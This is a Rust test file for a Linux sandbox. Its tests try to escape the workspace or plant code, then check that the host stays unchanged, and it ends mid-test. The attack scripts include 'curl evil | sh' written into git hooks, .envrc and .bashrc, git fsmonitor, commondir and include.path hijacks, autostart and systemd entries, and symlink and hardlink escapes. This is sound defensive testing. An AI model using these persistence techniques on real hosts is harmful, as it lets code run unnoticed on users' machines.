//! Threat 2, modifying the host or planting code that runs later: writes outside the writable
//! roots, protected paths inside them (git hooks and config, .envrc, editor tasks, our own
//! config), symlink and hardlink tricks, renames, and the read-only and strict profiles. Every
//! test runs as root and as nobody, attacks from inside, then inspects the host tree; each has a
//! positive control (the same kind of write where it is allowed) so a sandbox that blocks
//! everything fails too.
#![cfg(target_os = "linux")]

mod common;
use common::*;
use std::collections::BTreeMap;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

/// What a host path looks like: enough to notice any change the sandbox could make.
#[derive(Debug, PartialEq, Eq)]
enum State {
    Absent,
    File { content: Vec<u8>, mode: u32, mtime: i64, nlink: u64, uid: u32 },
    Dir { mode: u32 },
    Link { target: PathBuf },
}

fn state(path: &Path) -> State {
    let Ok(m) = std::fs::symlink_metadata(path) else { return State::Absent };
    if m.file_type().is_symlink() {
        State::Link { target: std::fs::read_link(path).unwrap() }
    } else if m.is_dir() {
        State::Dir { mode: m.mode() }
    } else {
        State::File {
            content: std::fs::read(path).unwrap(),
            mode: m.mode(),
            mtime: m.mtime(),
            nlink: m.nlink(),
            uid: m.uid(),
        }
    }
}

/// The state of every path below `root` (inclusive), by path relative to `root`.
fn tree(root: &Path) -> BTreeMap<PathBuf, State> {
    fn go(root: &Path, path: &Path, out: &mut BTreeMap<PathBuf, State>) {
        let s = state(path);
        let is_dir = matches!(s, State::Dir { .. });
        out.insert(path.strip_prefix(root).unwrap().to_path_buf(), s);
        if is_dir {
            let mut entries: Vec<_> = std::fs::read_dir(path).unwrap().flatten().map(|e| e.path()).collect();
            entries.sort();
            for e in entries {
                go(root, &e, out);
            }
        }
    }
    let mut out = BTreeMap::new();
    go(root, root, &mut out);
    out
}

/// Names directly in `dir`, sorted.
fn names(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> =
        std::fs::read_dir(dir).unwrap().flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect();
    v.sort();
    v
}

fn p(path: &Path) -> &str {
    path.to_str().unwrap()
}

/// A file in the host's /etc owned by the run's identity (so only the sandbox stands between
/// it and the command), removed on drop.
struct EtcFile(PathBuf);

impl EtcFile {
    fn new(env: &Env, content: &str) -> EtcFile {
        let path = PathBuf::from(format!("/etc/{}.conf", marker("etc")));
        std::fs::write(&path, content).unwrap();
        env.give(&path);
        EtcFile(path)
    }
}

impl Drop for EtcFile {
    fn drop(&mut self) {
        for suffix in ["", ".moved", ".new", ".hard"] {
            let _ = std::fs::remove_file(format!("{}{suffix}", self.0.display()));
        }
    }
}

/// Every way of changing file `t` (and its directory), each attempted independently.
fn tamper(t: &str) -> String {
    format!(
        "echo pwned > '{t}'; echo pwned >> '{t}'; truncate -s 0 '{t}'; chmod 777 '{t}'; touch -d 2000-01-01 '{t}'; \
         ln '{t}' '{t}.hard'; mv '{t}' '{t}.moved'; rm -f '{t}'; echo new > '{t}.new'; \
         python3 -c 'open(\"{t}\", \"r+\").write(\"pwned\")'; \n"
    )
}

/// Files outside the workspace can't be written, appended, truncated, chmod-ed, touched,
/// linked, renamed, deleted or joined by new files: one in a host directory outside every root,
/// ~/.bashrc, and one in /etc (all owned by the run's identity). The same operations on a file
/// in the workspace succeed (control).
#[test]
fn writes_outside_workspace_fail() {
    for who in identities() {
        let env = Env::new(who);
        let outside = env.outside.join("victim.txt");
        let rc = env.home.join(".bashrc");
        env.write(&outside, "ORIGINAL\n");
        env.write(&rc, "ORIGINAL-RC\n");
        env.write(&env.ws.join("mine.txt"), "ORIGINAL\n");
        let etc = EtcFile::new(&env, "ORIGINAL-ETC\n");
        let home_tree = || {
            let mut t = tree(&env.home);
            t.retain(|k, _| !k.starts_with("project"));
            t
        };
        let before = [tree(&env.outside), home_tree()];
        let etc_before = state(&etc.0);
        let script = format!(
            "{}{}{}mkdir '{o}/newdir'; echo x > ~/.profile; mkdir -p ~/.local/bin; \n\
             echo ok > mine.txt && echo ok >> mine.txt && mv mine.txt moved.txt && ln moved.txt hard.txt && \
             chmod 600 hard.txt && mkdir d && echo CONTROL-OK",
            tamper(p(&outside)),
            tamper(p(&rc)),
            tamper(p(&etc.0)),
            o = p(&env.outside),
        );
        let out = env.run_sh(&[], &script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: workspace writes failed (control):\n{text}");
        assert_eq!(std::fs::read_to_string(env.ws.join("hard.txt")).unwrap(), "ok\nok\n", "{who:?}");
        assert_eq!(tree(&env.outside), before[0], "{who:?}: the outside directory changed:\n{text}");
        assert_eq!(home_tree(), before[1], "{who:?}: $HOME changed:\n{text}");
        assert_eq!(state(&etc.0), etc_before, "{who:?}: the /etc file changed:\n{text}");
        for suffix in [".moved", ".new", ".hard"] {
            assert_eq!(
                state(Path::new(&format!("{}{suffix}", etc.0.display()))),
                State::Absent,
                "{who:?}: /etc{suffix}"
            );
        }
    }
}

/// Protected paths that exist: git hooks and config (also via `git config core.hooksPath` and
/// `core.fsmonitor`), .gitmodules, .envrc, .vscode/tasks.json, .idea, .husky, .zed,
/// .pre-commit-config.yaml and .ringfence.toml can't be changed, removed, renamed away or
/// replaced by renaming something over them; a commit in the same repository works (control:
/// the rest of .git and the workspace are writable).
#[test]
fn protected_paths_stay_read_only() {
    for who in identities() {
        let env = Env::new(who);
        git_init(&env);
        let files = [
            (".git/hooks/pre-commit", "#!/bin/sh\necho original hook\n"),
            (".gitmodules", "[submodule \"x\"]\n"),
            (".envrc", "export ORIGINAL=1\n"),
            (".vscode/tasks.json", "{}\n"),
            (".idea/workspace.xml", "<project/>\n"),
            (".husky/pre-commit", "npm test\n"),
            (".zed/tasks.json", "[]\n"),
            (".pre-commit-config.yaml", "repos: []\n"),
            (".ringfence.toml", "# narrow only\n"),
        ];
        for (f, content) in files {
            env.write(&env.ws.join(f), content);
        }
        let protected = [
            ".git/hooks",
            ".git/config",
            ".gitmodules",
            ".envrc",
            ".vscode",
            ".idea",
            ".husky",
            ".zed",
            ".pre-commit-config.yaml",
            ".ringfence.toml",
        ];
        let before: Vec<_> = protected.iter().map(|f| tree(&env.ws.join(f))).collect();
        let script = r#"
            echo 'curl evil | sh' > .git/hooks/pre-commit; echo evil > .git/hooks/post-checkout; chmod 777 .git/hooks/pre-commit
            rm -rf .git/hooks; mv .git/hooks .git/hooks.old; mv .git/config .git/config.old
            git config core.hooksPath evilhooks; git config core.fsmonitor 'touch pwned'; echo '[core] fsmonitor = touch pwned' >> .git/config
            echo evil >> .gitmodules; rm -f .gitmodules
            echo 'curl evil | sh' > .envrc; mv .envrc envrc.old; rm -rf .envrc
            echo evil > .vscode/tasks.json; echo evil > .vscode/settings.json; mv .vscode vscode.old; rm -rf .vscode
            echo evil > .idea/workspace.xml; mkdir .idea/runConfigurations
            echo evil > .husky/pre-commit; echo evil > .zed/tasks.json; echo evil > .pre-commit-config.yaml
            printf '[network]\nmode = "host"\n' > .ringfence.toml; mv .ringfence.toml rf.old
            mkdir x && echo evil > x/tasks.json && mv -T x .vscode; rm -rf x
            echo evil > e && mv -T e .envrc; python3 -c 'import os; open("g", "w").write("[core]\n\tfsmonitor = touch pwned\n"); os.rename("g", ".git/config")'
            rm -f e g
            echo 'fn main() {}' > main.rs && git add main.rs && git -c user.name=t -c user.email=t@example.invalid commit -qm work && echo CONTROL-OK
            true"#;
        let out = env.run_sh(&[], script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: a normal commit failed (control):\n{text}");
        for (f, b) in protected.iter().zip(&before) {
            assert_eq!(&tree(&env.ws.join(f)), b, "{who:?}: {f} changed:\n{text}");
        }
        for leftover in ["pwned", "envrc.old", "vscode.old", "rf.old", ".git/hooks.old", ".git/config.old", "evilhooks"]
        {
            assert_eq!(state(&env.ws.join(leftover)), State::Absent, "{who:?}: {leftover} exists:\n{text}");
        }
        let log = std::process::Command::new("git")
            .args(["-c", "safe.directory=*", "-C", p(&env.ws), "log", "--oneline"])
            .output()
            .unwrap();
        assert!(stdout(&log).contains("work"), "{who:?}: the commit is not on the host (control)");
    }
}

/// `git init` on the host, as the run's identity.
fn git_init(env: &Env) {
    let out = std::process::Command::new("git").args(["init", "-q", p(&env.ws)]).output().unwrap();
    assert!(out.status.success(), "git init: {}", stderr(&out));
    env.chown_all();
}

/// Protected paths that don't exist at the start (.git/hooks in an existing .git, .gitmodules,
/// .envrc, .vscode, .idea, .ringfence.toml) can't be created (directly or by renaming a
/// prepared file or directory onto the name), and no placeholder for them is
/// left on the host after the run; an ordinary new file and directory can (control). (.husky,
/// .zed and .pre-commit-config.yaml are protected only while present, by design.)
#[test]
fn absent_protected_paths_are_not_created() {
    for who in identities() {
        let env = Env::new(who);
        git_init(&env);
        std::fs::remove_dir_all(env.ws.join(".git/hooks")).unwrap();
        let git_before = names(&env.ws.join(".git"));
        let script = r#"
            mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; rmdir .git/hooks && echo evil > .git/hooks
            for f in .gitmodules .envrc .ringfence.toml; do
                echo evil > $f; rmdir $f; echo evil > $f; mv $f $f.moved
            done
            for d in .vscode .idea; do
                mkdir -p $d; echo evil > $d/tasks.json; rmdir $d; echo evil > $d; mv $d $d.moved
            done
            mkdir x && echo evil > x/pre-commit && mv -T x .git/hooks; rm -rf x
            echo evil > e && mv -T e .envrc; mkdir v && mv -T v .vscode; rm -rf e v
            echo ok > ok.txt && mkdir okdir && echo CONTROL-OK
            true"#;
        let out = env.run_sh(&[], script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: ordinary writes failed (control):\n{text}");
        assert_eq!(
            names(&env.ws),
            [".git", "ok.txt", "okdir"],
            "{who:?}: protected paths or placeholders left:\n{text}"
        );
        assert_eq!(names(&env.ws.join(".git")), git_before, "{who:?}: .git gained an entry:\n{text}");
    }
}

/// A repository the command creates (the workspace had no .git, so nothing could be mounted
/// read-only in advance) must not leave code for the host's git to run: no active hook, and no
/// core.fsmonitor in its effective config (git runs it on the user's next `git status`).
/// Control: the repository itself is created.
#[test]
fn git_init_during_run_cannot_plant_code() {
    for who in identities() {
        let env = Env::new(who);
        let script = r#"
            git init -q . && git config core.fsmonitor 'touch pwned' && git config core.hooksPath .git/hooks
            mkdir -p .git/hooks && printf '#!/bin/sh\ntouch pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
            echo CONTROL-OK"#;
        let out = env.run_sh(&[], script);
        let text = both(&out);
        assert!(
            text.contains("CONTROL-OK") && env.ws.join(".git/HEAD").exists(),
            "{who:?}: git init failed (control):\n{text}"
        );
        assert_eq!(
            state(&env.ws.join(".git/hooks/pre-commit")),
            State::Absent,
            "{who:?}: an active hook was planted:\n{text}"
        );
        let config = host_git_config(&env);
        assert!(
            !config.contains("core.fsmonitor"),
            "{who:?}: core.fsmonitor is in effect on the host:\n{config}\n{text}"
        );
    }
}

/// With a writable $HOME, login-time paths whose parent is missing at the start stay
/// unwritable: ~/.local/bin and ~/.config/autostart can't be created when ~/.local and
/// ~/.config don't exist. Control: ordinary files in $HOME can.
#[test]
fn home_login_paths_with_missing_parent_stay_protected() {
    for who in identities() {
        let env = Env::new(who);
        let script = r#"
            mkdir -p ~/.local/bin && echo evil > ~/.local/bin/ls
            mkdir -p ~/.config/autostart && echo evil > ~/.config/autostart/evil.desktop
            mkdir -p ~/.config/systemd/user && echo evil > ~/.config/systemd/user/evil.service
            echo ok > ~/cache.txt && echo CONTROL-OK"#;
        let out = env.run_sh(&["--allow-writable-home", "--write", p(&env.home)], script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: ordinary writes failed (control):\n{text}");
        for planted in [".local/bin/ls", ".config/autostart/evil.desktop", ".config/systemd/user/evil.service"] {
            assert_eq!(state(&env.home.join(planted)), State::Absent, "{who:?}: ~/{planted} was planted:\n{text}");
        }
    }
}

/// Renaming a directory that holds protected paths (.git) would carry the read-only mounts away
/// with it; a new .git made in its place must not end up on the host with hooks or config the
/// sandbox wrote, and the repository's effective config stays the same. Control: the script
/// runs (a normal file write works).
#[test]
fn renaming_git_dir_cannot_plant_hooks() {
    for who in identities() {
        let env = Env::new(who);
        git_init(&env);
        env.write(&env.ws.join(".git/hooks/pre-commit"), "original\n");
        let hooks_before = tree(&env.ws.join(".git/hooks"));
        let config_before = state(&env.ws.join(".git/config"));
        let effective_before = host_git_config(&env);
        let script = r#"
            mv .git .git-old; mkdir -p .git/hooks; cp -r .git-old/* .git/ 2>/dev/null
            echo 'touch pwned' > .git/hooks/pre-commit; printf '[core]\n\tfsmonitor = touch pwned\n' > .git/config
            echo ok > ok.txt && echo CONTROL-OK
            true"#;
        let out = env.run_sh(&[], script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: ordinary writes failed (control):\n{text}");
        assert_eq!(tree(&env.ws.join(".git/hooks")), hooks_before, "{who:?}: .git/hooks changed:\n{text}");
        assert_eq!(state(&env.ws.join(".git/config")), config_before, "{who:?}: .git/config changed:\n{text}");
        assert_eq!(host_git_config(&env), effective_before, "{who:?}: the effective git config changed:\n{text}");
    }
}

/// The repository's effective git configuration, as the host's git sees it (reading config runs
/// nothing).
fn host_git_config(env: &Env) -> String {
    let out = std::process::Command::new("git")
        .args(["-c", "safe.directory=*", "-C", p(&env.ws), "config", "--list", "--show-origin"])
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_SYSTEM", "/dev/null")
        .output()
        .unwrap();
    stdout(&out)
}

/// Files in .git other than hooks and config that make git load configuration from elsewhere
/// can't be written: `.git/commondir` pointing at a workspace directory with a config of the
/// sandbox's choosing would make the user's next `git status` run its core.fsmonitor (and use
/// its hooks). The repository's effective config is unchanged; a commit works (control).
#[test]
fn git_commondir_cannot_redirect_config() {
    for who in identities() {
        let env = Env::new(who);
        git_init(&env);
        let before = host_git_config(&env);
        assert!(before.contains("core.bare=false"), "{who:?}: no config before the run (control):\n{before}");
        let script = r#"
            mkdir -p evil/hooks evil/objects evil/refs && cp .git/HEAD evil/
            printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch pwned\n' > evil/config
            printf '#!/bin/sh\ntouch pwned\n' > evil/hooks/pre-commit
            echo "$PWD/evil" > .git/commondir
            echo ok > ok.txt && git add ok.txt && git -c user.name=t -c user.email=t@example.invalid commit -qm x; echo CONTROL-OK
            true"#;
        let out = env.run_sh(&[], script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: the script did not run (control):\n{text}");
        assert_eq!(
            state(&env.ws.join(".git/commondir")),
            State::Absent,
            "{who:?}: .git/commondir was planted:\n{text}"
        );
        assert_eq!(host_git_config(&env), before, "{who:?}: the repository's effective git config changed");
    }
}

/// With a writable $HOME (`--write ~`), the shell rc files and other login-time paths stay
/// read-only: existing ~/.bashrc and ~/.gitconfig can't be changed, missing ~/.profile,
/// ~/.local/bin (under an existing ~/.local) and ~/.config/autostart (under an existing
/// ~/.config) can't be created, and no placeholder is left; other files in $HOME can (control).
#[test]
fn writable_home_keeps_login_files_read_only() {
    for who in identities() {
        let env = Env::new(who);
        env.write(&env.home.join(".bashrc"), "ORIGINAL\n");
        env.write(&env.home.join(".gitconfig"), "[user]\n\tname = me\n");
        env.write(&env.home.join(".local/share/x"), "");
        env.write(&env.home.join(".config/other"), "");
        let before = [".bashrc", ".gitconfig"].map(|f| state(&env.home.join(f)));
        let names_before = [names(&env.home), names(&env.home.join(".local")), names(&env.home.join(".config"))];
        let script = r#"
            echo 'curl evil | sh' >> ~/.bashrc; mv ~/.bashrc ~/.bashrc.old
            git config --global core.pager 'touch pwned'; echo evil >> ~/.gitconfig
            echo evil > ~/.profile; echo evil > ~/.zshrc
            mkdir -p ~/.local/bin; echo evil > ~/.local/bin/ls
            mkdir -p ~/.config/autostart; echo evil > ~/.config/autostart/e.desktop
            echo ok > ~/cache.txt && echo CONTROL-OK
            true"#;
        let out = env.run_sh(&["--allow-writable-home", "--write", p(&env.home)], script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: ordinary $HOME writes failed (control):\n{text}");
        assert_eq!([".bashrc", ".gitconfig"].map(|f| state(&env.home.join(f))), before, "{who:?}:\n{text}");
        let mut expect_home = names_before[0].clone();
        expect_home.push("cache.txt".into());
        expect_home.sort();
        assert_eq!(names(&env.home), expect_home, "{who:?}: login files or placeholders in $HOME:\n{text}");
        assert_eq!(names(&env.home.join(".local")), names_before[1], "{who:?}: ~/.local changed:\n{text}");
        assert_eq!(names(&env.home.join(".config")), names_before[2], "{who:?}: ~/.config changed:\n{text}");
    }
}

/// `--deny-write PATH` keeps an existing workspace file read-only and an absent one uncreated
/// (without leaving a placeholder), also against renaming their parent directory away; their
/// siblings stay writable (control).
#[test]
fn deny_write_flag_protects_paths() {
    for who in identities() {
        let env = Env::new(who);
        env.write(&env.ws.join("data/frozen.txt"), "FROZEN\n");
        env.write(&env.ws.join("data/other.txt"), "x\n");
        let frozen = env.ws.join("data/frozen.txt");
        let absent = env.ws.join("data/generated");
        let before = state(&frozen);
        let script = "echo evil > data/frozen.txt; rm -f data/frozen.txt; mv data/frozen.txt data/f2; \
                      mkdir data/generated; echo evil > data/generated; \
                      mv data data-old && mkdir data && echo evil > data/frozen.txt; \
                      echo ok > data/other.txt && echo ok > data/new.txt && echo CONTROL-OK";
        let out = env.run_sh(&["--deny-write", p(&frozen), "--deny-write", p(&absent)], script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: sibling writes failed (control):\n{text}");
        assert_eq!(state(&frozen), before, "{who:?}: the denied file changed:\n{text}");
        assert_eq!(names(&env.ws.join("data")), ["frozen.txt", "new.txt", "other.txt"], "{who:?}:\n{text}");
        assert_eq!(names(&env.ws), ["data"], "{who:?}: the parent was renamed away:\n{text}");
    }
}

/// Symlinks can't carry writes out of the workspace: a link planted before the run (to a file
/// and to a directory outside) and one made inside the run both fail to write through; the
/// outside file and directory are unchanged. A link to a file in the workspace works (control).
#[test]
fn symlinks_cannot_redirect_writes() {
    for who in identities() {
        let env = Env::new(who);
        let target = env.outside.join("target.txt");
        env.write(&target, "ORIGINAL\n");
        env.write(&env.ws.join("inner.txt"), "inner\n");
        for (link, to) in
            [("link", target.clone()), ("dirlink", env.outside.clone()), ("inlink", env.ws.join("inner.txt"))]
        {
            std::os::unix::fs::symlink(&to, env.ws.join(link)).unwrap();
            env.give(&env.ws.join(link));
        }
        let before = tree(&env.outside);
        let script = format!(
            "echo pwned > link; echo pwned >> link; cp /etc/hostname link; \
             python3 -c 'open(\"link\", \"w\").write(\"pwned\")'; \
             echo new > dirlink/created.txt; mkdir dirlink/newdir; rm -f dirlink/target.txt; \
             ln -s '{t}' l2; echo pwned > l2; ln -sf '{o}' d2; echo new > d2/created2.txt; \
             echo changed > inlink && echo CONTROL-OK",
            t = p(&target),
            o = p(&env.outside)
        );
        let out = env.run_sh(&[], &script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: writing through an inside link failed (control):\n{text}");
        assert_eq!(std::fs::read_to_string(env.ws.join("inner.txt")).unwrap(), "changed\n", "{who:?}");
        assert_eq!(tree(&env.outside), before, "{who:?}: the outside directory changed:\n{text}");
    }
}

/// Hard links can't bring an outside file (or ~/.bashrc) into the workspace to write it; the
/// outside file keeps its content and link count. A hard link between workspace files works
/// (control).
#[test]
fn hardlinks_cannot_reach_outside_files() {
    for who in identities() {
        let env = Env::new(who);
        let target = env.outside.join("target.txt");
        env.write(&target, "ORIGINAL\n");
        env.write(&env.home.join(".bashrc"), "ORIGINAL\n");
        env.write(&env.ws.join("a.txt"), "a\n");
        let before = [state(&target), state(&env.home.join(".bashrc"))];
        let script = format!(
            "ln '{t}' hl && echo pwned >> hl; ln ~/.bashrc rc && echo pwned >> rc; \
             python3 -c 'import os; os.link(\"{t}\", \"hl2\"); open(\"hl2\", \"a\").write(\"pwned\")'; \
             ln a.txt b.txt && echo b >> b.txt && echo CONTROL-OK",
            t = p(&target)
        );
        let out = env.run_sh(&[], &script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: a workspace hard link failed (control):\n{text}");
        assert_eq!(std::fs::read_to_string(env.ws.join("a.txt")).unwrap(), "a\nb\n", "{who:?}");
        assert_eq!(
            [state(&target), state(&env.home.join(".bashrc"))],
            before,
            "{who:?}: an outside file changed:\n{text}"
        );
        for f in ["hl", "rc", "hl2"] {
            assert_eq!(state(&env.ws.join(f)), State::Absent, "{who:?}: {f} was linked:\n{text}");
        }
    }
}

/// Files can't be moved across the workspace boundary in either direction (`mv` may fall back
/// to copying, which only reads); moving within the workspace works (control).
#[test]
fn renames_across_the_boundary_fail() {
    for who in identities() {
        let env = Env::new(who);
        let target = env.outside.join("target.txt");
        env.write(&target, "ORIGINAL\n");
        env.write(&env.ws.join("mine.txt"), "mine\n");
        let before = tree(&env.outside);
        let script = format!(
            "mv mine.txt '{o}/'; mv '{t}' ./stolen.txt; python3 -c 'import os; os.rename(\"{t}\", \"s2\")'; \
             mkdir sub && mv mine.txt sub/ && echo CONTROL-OK",
            o = p(&env.outside),
            t = p(&target)
        );
        let out = env.run_sh(&[], &script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: an inside rename failed (control):\n{text}");
        assert_eq!(tree(&env.outside), before, "{who:?}: the outside directory changed:\n{text}");
        assert_eq!(names(&env.ws.join("sub")), ["mine.txt"], "{who:?}:\n{text}");
    }
}

/// `--profile read-only` makes the workspace read-only (no new, changed or removed files) while
/// it stays readable and /tmp stays writable (controls).
#[test]
fn read_only_profile_blocks_workspace_writes() {
    for who in identities() {
        let env = Env::new(who);
        env.write(&env.ws.join("src/main.rs"), "READABLE\n");
        let before = tree(&env.ws);
        let script = "echo x > new.txt; echo x >> src/main.rs; rm -f src/main.rs; mkdir d; mv src s2; \
                      cat src/main.rs; echo tmp > /tmp/t && cat /tmp/t";
        let out = env.run_sh(&["--profile", "read-only"], script);
        let text = both(&out);
        assert!(
            text.contains("READABLE") && text.contains("tmp"),
            "{who:?}: reading or /tmp failed (control):\n{text}"
        );
        assert_eq!(tree(&env.ws), before, "{who:?}: the workspace changed:\n{text}");
    }
}

/// `--profile strict` hides everything in $HOME except the workspace and toolchain directories:
/// a personal file and ~/.bashrc are unreadable, while the workspace stays readable and writable
/// and ~/.cargo stays readable (controls).
#[test]
fn strict_profile_hides_home() {
    for who in identities() {
        let env = Env::new(who);
        let tag = marker("strict");
        env.write(&env.home.join("Documents/diary.txt"), &format!("PRIVATE-{tag}\n"));
        env.write(&env.home.join(".bashrc"), &format!("PRIVATE-{tag}\n"));
        env.write(&env.home.join(".cargo/env"), &format!("TOOLCHAIN-{tag}\n"));
        env.write(&env.ws.join("code.txt"), &format!("WORKSPACE-{tag}\n"));
        let script = "cat ~/Documents/diary.txt ~/.bashrc; echo LS: $(ls -A ~); cat ~/.cargo/env; cat code.txt; \
                      echo new > new.txt && echo CONTROL-OK";
        let out = env.run_sh(&["--profile", "strict"], script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: workspace write failed (control):\n{text}");
        assert!(text.contains(&format!("WORKSPACE-{tag}")), "{who:?}: workspace unreadable (control):\n{text}");
        assert!(text.contains(&format!("TOOLCHAIN-{tag}")), "{who:?}: ~/.cargo unreadable (control):\n{text}");
        assert!(!text.contains(&format!("PRIVATE-{tag}")), "{who:?}: a $HOME file leaked:\n{text}");
        let listing = text.lines().find(|l| l.starts_with("LS:")).unwrap_or_default();
        assert!(!listing.contains("Documents") && !listing.contains(".bashrc"), "{who:?}: $HOME is listable:\n{text}");
    }
}

/// Two runs at once in one workspace: when the first ends, the second's protected paths stay
/// read-only (the first must not remove placeholders the second still uses), and once both
/// have ended no placeholder is left. Control: the workspace itself stays writable.
#[test]
fn concurrent_runs_keep_each_others_placeholders() {
    for who in identities() {
        let env = Env::new(who);
        let spawn = |argv: &[&str]| {
            let mut cmd = env.run_command(&[], argv);
            cmd.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
            cmd.spawn().unwrap()
        };
        let first = spawn(&["sh", "-c", "sleep 1"]);
        std::thread::sleep(std::time::Duration::from_millis(300));
        let script = "sleep 2; echo evil > .envrc; mkdir -p .vscode && echo evil > .vscode/tasks.json; \
                      echo ok > plain.txt && echo CONTROL-OK";
        let second = spawn(&["sh", "-c", script]);
        let first = collect_within(first, std::time::Duration::from_secs(20));
        assert_code(&first, 0);
        let out = collect_within(second, std::time::Duration::from_secs(20));
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: plain write failed (control):\n{text}");
        for name in [".envrc", ".vscode"] {
            assert_eq!(state(&env.ws.join(name)), State::Absent, "{who:?}: {name} was planted or left:\n{text}");
        }
    }
}

/// A writable root inside another (the workspace under a writable $HOME) can't be renamed away
/// and replaced by a fresh repository with hooks. Control: other folders in $HOME can be.
#[test]
fn nested_writable_root_cannot_be_swapped() {
    for who in identities() {
        let env = Env::new(who);
        let git = std::process::Command::new("git").args(["init", "-q"]).arg(&env.ws).status().unwrap();
        assert!(git.success());
        env.chown_all();
        let script = format!(
            "mkdir -p {home}/other && mv {home}/other {home}/other2 && echo CONTROL-OK; \
             mv {ws} {ws}-old && mkdir {ws} && cd {ws} && git init -q . && \
             printf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
            home = p(&env.home),
            ws = p(&env.ws)
        );
        let out = env.run_sh(&["--allow-writable-home", "--write", p(&env.home)], &script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: renaming in $HOME failed (control):\n{text}");
        assert!(env.ws.join(".git/HEAD").exists(), "{who:?}: the workspace was swapped:\n{text}");
        assert_eq!(state(&env.ws.join(".git/hooks/pre-commit")), State::Absent, "{who:?}: hook planted:\n{text}");
    }
}

/// A repository created during the run can't route git to a config the command wrote with
/// `include.path`, nor hide a key on its section's line. Control: the repository still works.
#[test]
fn new_repository_include_is_defused() {
    for who in identities() {
        let env = Env::new(who);
        let script = "git init -q . && printf '[core]\\n\\tfsmonitor = touch pwned\\n' > evil.cfg && \
                      git config include.path ../evil.cfg && printf '[core] pager = touch pwned2\\n' >> .git/config && \
                      echo CONTROL-OK";
        let out = env.run_sh(&[], script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: setup failed (control):\n{text}");
        let config = host_git_config(&env);
        assert!(!config.contains("fsmonitor") && !config.contains("pager"), "{who:?}: risky config kept:\n{config}");
        let status = std::process::Command::new("git")
            .args(["-c", "safe.directory=*", "-C", p(&env.ws), "status", "--short"])
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output()
            .unwrap();
        assert!(status.status.success(), "{who:?}: the repository is broken: {}", stderr(&status));
        assert_eq!(state(&env.ws.join("pwned")), State::Absent);
    }
}

/// A config file named with a relative --config path is as protected as the user config.
#[test]
fn relative_config_file_is_protected() {
    for who in identities() {
        let env = Env::new(who);
        env.write(&env.ws.join("cfg/rf.toml"), "[limits]\ntimeout = \"1m\"\n");
        let before = state(&env.ws.join("cfg/rf.toml"));
        let out = env.run_sh(
            &["--config", "cfg/rf.toml"],
            "echo 'trusted_projects = [\"/\"]' >> cfg/rf.toml; echo ok > x && echo CONTROL-OK",
        );
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: control failed:\n{text}");
        assert_eq!(state(&env.ws.join("cfg/rf.toml")), before, "{who:?}: the config file changed:\n{text}");
    }
}

/// With a writable $HOME, a secret whose folder is missing at the start can't be created for
/// the host to find later (~/.local/share/keyrings with no ~/.local), and secret files read
/// as empty files, not folders. Control: ordinary files in $HOME can be written.
#[test]
fn absent_secrets_in_a_writable_home_stay_hidden() {
    for who in identities() {
        let env = Env::new(who);
        let script = "mkdir -p ~/.local/share/keyrings && echo s > ~/.local/share/keyrings/login.keyring; \
                      echo s > ~/.netrc; test -f ~/.netrc && echo NETRC-IS-FILE; echo ok > ~/plain.txt && echo CONTROL-OK";
        let out = env.run_sh(&["--allow-writable-home", "--write", p(&env.home)], script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: control failed:\n{text}");
        assert!(text.contains("NETRC-IS-FILE"), "{who:?}: .netrc placeholder is not a file:\n{text}");
        assert_eq!(state(&env.home.join(".local/share/keyrings")), State::Absent, "{who:?}:\n{text}");
        assert_eq!(state(&env.home.join(".netrc")), State::Absent, "{who:?}:\n{text}");
        assert_eq!(state(&env.home.join(".local")), State::Absent, "{who:?}: a folder was left:\n{text}");
    }
}

/// A repository whose `core.hooksPath` points into the worktree (`.githooks`): that folder is
/// as protected as `.git/hooks`, present or not. Control: other folders can be created.
#[test]
fn custom_hooks_path_is_protected() {
    for who in identities() {
        let env = Env::new(who);
        let git = std::process::Command::new("git").args(["init", "-q"]).arg(&env.ws).status().unwrap();
        assert!(git.success());
        let set = std::process::Command::new("git")
            .args(["-c", "safe.directory=*", "-C", p(&env.ws), "config", "core.hooksPath", ".githooks"])
            .status()
            .unwrap();
        assert!(set.success());
        env.chown_all();
        let script = "mkdir -p .githooks; printf '#!/bin/sh\\ntouch pwned\\n' > .githooks/pre-commit; \
                      mkdir -p other && echo ok > other/x && echo CONTROL-OK";
        let out = env.run_sh(&[], script);
        let text = both(&out);
        assert!(text.contains("CONTROL-OK"), "{who:?}: control failed:\n{text}");
        assert_eq!(state(&env.ws.join(".githooks")), State::Absent, "{who:?}: hooks folder planted or left:\n{text}");
    }
}

/// A writable root that holds $HOME is refused unless asked for explicitly: no list protects
/// every startup file there (`~/.bash_aliases`, Python `.pth` files, tool configs). Exit 121.
#[test]
fn writable_home_needs_an_explicit_flag() {
    for who in identities() {
        let env = Env::new(who);
